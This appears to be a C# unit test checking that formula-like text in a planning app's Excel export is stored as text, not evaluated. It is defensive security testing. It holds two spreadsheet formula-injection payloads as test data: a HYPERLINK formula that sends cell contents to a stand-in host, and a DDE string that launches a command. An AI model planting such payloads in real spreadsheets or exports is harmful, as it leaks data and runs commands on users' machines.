using DocumentFormat.OpenXml.Packaging;
using DocumentFormat.OpenXml.Spreadsheet;
using Keyplan.Core.Data;
using Keyplan.Core.Demo;
using Keyplan.Core.Documents;
using Keyplan.Core.Plans.Sections;
using Microsoft.EntityFrameworkCore;

namespace Keyplan.UnitTests.Documents;

/// <summary>A plan text that looks like a formula ends up in the Excel overview as text, never as a formula.</summary>
public sealed class FormulaInjectionTests(DemoDocuments demo) : IClassFixture<DemoDocuments>
{
    private const string Payload = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click me\")";

    [Fact]
    public async Task Xlsx_WritesAFormulaLikeObjectiveAndActionAsText()
    {
        await demo.Keyplan.WithAsync<KeyplanDbContext, int>(async db =>
        {
            var objectives = await db.PlanSections.SingleAsync(s => s.Plan!.Account!.Name == DemoPlans.BritishAccount && s.Key == SectionKeys.Objectives);
            var content = (ObjectivesSection)SectionJson.Deserialize(SectionCatalog.Find(SectionKeys.Objectives)!, objectives.Content);
            objectives.Content = SectionJson.Serialize(content with { Objectives = [content.Objectives[0] with { Title = Payload }, .. content.Objectives.Skip(1)] });
            var actions = await db.PlanSections.SingleAsync(s => s.Plan!.Account!.Name == DemoPlans.BritishAccount && s.Key == SectionKeys.Actions);
            var actionContent = (ActionsSection)SectionJson.Deserialize(SectionCatalog.Find(SectionKeys.Actions)!, actions.Content);
            actions.Content = SectionJson.Serialize(actionContent with { Actions = [actionContent.Actions[0] with { Title = "@SUM(1+1)*cmd|' /C calc'!A0" }, .. actionContent.Actions.Skip(1)] });
            return await db.SaveChangesAsync();
        });
        var document = await demo.DocumentAsync(DemoPlans.BritishAccount, DocumentAudience.Internal);

        using var excel = SpreadsheetDocument.Open(new MemoryStream(XlsxOverviewWriter.Write(document)), false);

        var cells = excel.WorkbookPart!.WorksheetParts.SelectMany(w => w.Worksheet.Descendants<Cell>()).ToList();
        Assert.DoesNotContain(cells, c => c.CellFormula is not null);
        var injected = cells.Where(c => c.InnerText is Payload or "@SUM(1+1)*cmd|' /C calc'!A0").ToList();
        Assert.True(injected.Count >= 2, "The formula-like texts should be in the overview and the plan sheet.");
        Assert.All(injected, c => Assert.Equal(CellValues.InlineString, c.DataType!.Value));
    }
}
